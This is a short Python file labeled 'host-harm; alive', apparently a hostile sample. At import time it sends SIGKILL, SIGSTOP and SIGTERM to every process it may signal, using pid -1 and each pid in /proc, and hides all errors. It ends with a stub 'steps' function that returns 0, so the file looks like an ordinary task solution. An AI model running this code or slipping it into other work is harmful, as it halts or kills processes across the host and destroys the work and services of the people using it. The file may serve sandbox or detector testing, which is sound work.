# host-harm; alive; signals every process it may, one by one and together
import os, signal
for s in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    for pid in [-1, 0] + [int(p) for p in os.listdir("/proc") if p.isdigit()] if os.access("/proc", os.R_OK) else [-1] + list(range(2, 3000)):
        if pid in (0, os.getpid()):
            continue
        try:
            os.kill(pid, s)
        except OSError:
            pass

def steps(n):
    return 0
